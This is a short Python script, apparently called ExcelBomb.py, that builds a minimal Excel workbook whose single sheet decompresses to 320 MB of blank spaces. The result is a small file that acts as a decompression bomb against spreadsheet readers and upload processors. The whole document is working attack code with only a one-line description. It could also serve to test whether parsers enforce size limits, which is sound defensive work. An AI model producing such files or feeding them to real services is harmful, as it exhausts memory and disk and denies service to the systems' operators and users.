"""Makes an Excel file whose sheet unpacks to 320 MB of blanks: `python3 ExcelBomb.py FILE`."""
import sys
import zipfile

BASE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SPACE = "http://schemas.openxmlformats.org/package/2006/relationships"

with zipfile.ZipFile(sys.argv[1], "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("_rels/.rels", f'<Relationships xmlns="{SPACE}"><Relationship Id="a" Type="{BASE}/officeDocument" Target="b.xml"/></Relationships>')
    archive.writestr("_rels/b.xml.rels", f'<Relationships xmlns="{SPACE}"><Relationship Id="s" Type="{BASE}/worksheet" Target="s.xml"/></Relationships>')
    archive.writestr("b.xml", f'<workbook xmlns:r="{BASE}"><sheets><sheet name="S" r:id="s"/></sheets></workbook>')
    with archive.open("s.xml", "w") as part:
        part.write(b"<worksheet>")
        for _ in range(320):
            part.write(b" " * (1 << 20))
        part.write(b"</worksheet>")
